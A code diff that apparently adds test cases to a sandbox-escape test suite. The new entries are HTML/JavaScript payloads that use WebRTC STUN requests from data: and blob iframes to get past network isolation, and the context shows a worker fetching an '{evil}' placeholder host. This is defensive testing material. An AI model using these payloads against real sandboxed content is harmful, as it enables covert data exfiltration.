@@ -153,6 +153,22 @@ ATTACKS = [
         control=True,
     ),
     Attack(
+        "webrtc-in-a-data-iframe",
+        "<iframe src=\"data:text/html,<script>const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.2:{udp}'}]});"
+        "pc.createDataChannel('x'); pc.createOffer().then(o => pc.setLocalDescription(o))</script>\"></iframe>",
+        subresources=True,
+        silent=True,
+        control=True,
+    ),
+    Attack(
+        "webrtc-in-a-blob-iframe",
+        "<iframe id=f></iframe><script>f.src = html(\"<script>const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.2:{udp}'}]});"
+        "pc.createDataChannel('x'); pc.createOffer().then(o => pc.setLocalDescription(o))<\\/script>\")</script>",
+        subresources=True,
+        silent=True,
+        control=True,
+    ),
+    Attack(
         "dedicated-worker-fetch",
         "<script>new Worker(js(\"fetch('{evil}')\"))</script>",
         subresources=True,
